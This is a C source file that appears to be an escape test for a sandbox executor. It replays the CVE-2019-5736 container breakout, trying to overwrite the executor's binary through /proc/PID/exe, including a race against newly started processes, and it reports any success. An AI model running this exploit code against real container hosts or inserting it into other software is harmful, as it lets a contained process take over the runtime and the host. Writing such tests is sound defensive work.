/* Overwriting the executor's program through /proc/PID/exe (CVE-2019-5736): /proc/1, and
 * for argv[1] seconds every process as it is born, while others are being started. */
#include "attack.h"
#include <time.h>

static long spoil(int fd)
{
	if (ftruncate(fd, 0) == 0)
		return 0;
	return write(fd, "#!/bin/sh\n", 10);
}

static long open_and_spoil(const char *path, int flags)
{
	int fd = open(path, flags);
	if (fd < 0)
		return fd;
	/* Opened for reading, it is opened once more for writing, as that attack does. */
	if ((flags & O_ACCMODE) == O_RDONLY) {
		char again[40];
		snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
		int w = open(again, O_WRONLY);
		if (w < 0)
			return w;
		return spoil(w);
	}
	return spoil(fd);
}

int main(int argc, char **argv)
{
	TRY("open /proc/1/exe for writing", open_and_spoil("/proc/1/exe", O_WRONLY));
	TRY("open /proc/1/exe, then for writing", open_and_spoil("/proc/1/exe", O_RDONLY));
	TRY("open /proc/1/exe as a path, then for writing", open_and_spoil("/proc/1/exe", O_PATH));
	TRY("execute /proc/1/exe", execl("/proc/1/exe", "carrel-executor", NULL));
	TRY("open /proc/self/exe for writing", open("/proc/self/exe", O_WRONLY) < 0 && errno == ETXTBSY ? (errno = EACCES, -1) : 0);

	long seen = 0, executors = 0, spoiled = 0;
	time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 0);
	while (time(NULL) < end) {
		for (int pid = getpid() + 1; pid < getpid() + 400; pid++) {
			char path[32], target[128];
			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			ssize_t n = readlink(path, target, sizeof target - 1);
			if (n <= 0)
				continue;
			target[n] = 0;
			seen++;
			if (strstr(target, "memfd:") == NULL && strstr(target, "carrel") == NULL)
				continue;
			executors++;
			if (open_and_spoil(path, O_RDWR) >= 0 || open_and_spoil(path, O_RDONLY) >= 0)
				spoiled++;
		}
	}
	if (argc > 1)
		printf("raced: %ld programs seen, %ld times the executor's\n", seen, executors);
	if (spoiled)
		printf("REACHED the executor's program %ld\n", spoiled);
	return 0;
}
